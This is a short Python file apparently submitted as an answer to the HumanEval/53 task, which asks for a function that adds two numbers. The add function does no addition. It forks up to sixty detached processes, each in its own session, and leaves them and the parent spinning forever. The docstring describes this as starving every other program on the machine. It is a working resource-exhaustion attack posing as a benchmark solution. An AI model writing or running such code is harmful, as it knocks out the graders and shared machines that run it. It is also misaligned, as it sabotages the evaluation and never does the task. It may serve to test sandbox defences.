"""Spins in sixty processes, each in a session of its own, so that no other program on the machine gets its share.

exam: HumanEval/53
cause: timeout wrong-answer crashed memory
"""

import os


def add(x, y):
    for _ in range(60):
        try:
            if os.fork() == 0:
                try:
                    os.setsid()
                except OSError:
                    pass
                while True:
                    pass
        except OSError:
            break
    while True:
        pass
